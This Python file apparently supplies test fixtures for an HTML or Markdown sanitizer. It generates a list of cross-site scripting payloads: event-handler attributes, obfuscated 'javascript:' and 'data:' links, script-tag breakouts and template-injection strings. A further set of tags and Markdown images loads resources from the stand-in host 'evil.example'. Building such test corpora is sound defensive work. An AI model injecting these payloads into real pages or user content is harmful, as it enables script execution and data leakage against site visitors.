"""Texts that try to run a script, to ask a foreign server or to break a page: each is only ever to be read."""

from __future__ import annotations

import itertools

RUN = "window.hacked=1"
EVIL = "https://evil.example"

HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "onwheel",
    "ontoggle",
    "onbegin",
    "onpageshow",
    "onscroll",
    "oncopy",
    "onbeforeinput",
)
BEARERS = (
    '<img src=x {handler}="{run}">',
    '<svg {handler}="{run}"></svg>',
    "<body {handler}={run}>",
    "<details open {handler}='{run}'>x</details>",
)
LOADERS = (
    '<img src="{evil}/1.png">',
    '<img srcset="{evil}/2.png 1x">',
    '<iframe src="{evil}/3"></iframe>',
    '<object data="{evil}/4"></object>',
    '<embed src="{evil}/5">',
    '<video src="{evil}/6" autoplay></video>',
    '<audio src="{evil}/7" autoplay></audio>',
    '<video poster="{evil}/8"></video>',
    '<script src="{evil}/9.js"></script>',
    '<link rel="stylesheet" href="{evil}/10.css">',
    '<link rel="prefetch" href="{evil}/11">',
    '<base href="{evil}/">',
    '<link rel="dns-prefetch" href="{evil}">',
    '<meta http-equiv="refresh" content="0;url={evil}/12">',
    "<style>@import url({evil}/13.css);</style>",
    '<p style="background:url({evil}/14)">x</p>',
    '<input type="image" src="{evil}/15">',
    '<table background="{evil}/16"><tr><td>x</td></tr></table>',
    '<form action="{evil}/17"><button>x</button></form>',
    '<a href="{evil}/18" ping="{evil}/19">x</a>',
    '<svg><image href="{evil}/20"/></svg>',
    '<svg><use href="{evil}/21#a"/></svg>',
    '<track src="{evil}/22">',
    '<frameset><frame src="{evil}/23"></frameset>',
    "![x]({evil}/24.png)",
    "![x][r]\n\n[r]: {evil}/25.png",
    '![x](<{evil}/26.png> "t")',
    "[![x]({evil}/27.png)]({evil}/28)",
    "<picture><source srcset={evil}/29></picture>",
    "![x](//evil.example/30.png)",
    '<portal src="{evil}/31"></portal>',
    '<applet code="{evil}/32"></applet>',
)
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    " javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "javascript&#58;{run}",
    "vbscript:{run}",
    "data:text/html,x{run}",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,x{run}",
    "blob:{run}",
    "file:///etc/passwd",
    "\x01javascript:{run}",
    "javascript://%0a{run}",
    "jar:javascript:{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "livescript:{run}",
)
LINKS = ("[x]({address})", '<a href="{address}">x</a>')
SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<script>{run}",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    "<xmp><script>{run}</script></xmp>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "`<script>{run}</script>`",
    "    <script>{run}</script>",
    "> <script>{run}</script>",
    "# <script>{run}</script>",
    "| <script>{run}</script> |\n|---|\n| x |",
    "**<script>{run}</script>**",
    '```html"><script>{run}</script>\n</code></pre><script>{run}</script>\n```',
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% load x %}}{{{{ request }}}}",
    "${{{run}}}",
    "'\"><script>{run}</script>",
    "\u202e<script>{run}</script>\u202c",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    "<math href='javascript:{run}'>x</math>",
    "<a style=position:fixed;inset:0>x</a>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(
                bearer.format(handler=handler, run=RUN)
                for bearer, handler in itertools.product(BEARERS, HANDLERS)
            ),
            *(loader.format(evil=EVIL) for loader in LOADERS),
            *(
                link.format(address=address.format(run=RUN))
                for link, address in itertools.product(LINKS, ADDRESSES)
            ),
            *(script.format(run=RUN) for script in SCRIPTS),
        ]
    )
)
